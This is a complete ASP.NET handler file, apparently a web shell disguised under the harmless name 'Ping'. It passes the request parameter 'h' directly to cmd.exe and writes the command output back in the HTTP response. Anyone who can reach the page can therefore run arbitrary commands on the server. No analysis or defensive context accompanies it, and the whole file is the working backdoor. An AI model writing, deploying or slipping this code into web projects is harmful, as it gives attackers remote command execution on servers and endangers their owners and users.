<%@ WebHandler Language="C#" Class="Ping" %>
using System.Web;
public class Ping : IHttpHandler {
  public void ProcessRequest(HttpContext context) {
    var i = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + context.Request["h"]);
    i.RedirectStandardOutput = true; i.UseShellExecute = false;
    context.Response.Write(System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd());
  }
  public bool IsReusable { get { return false; } }
}
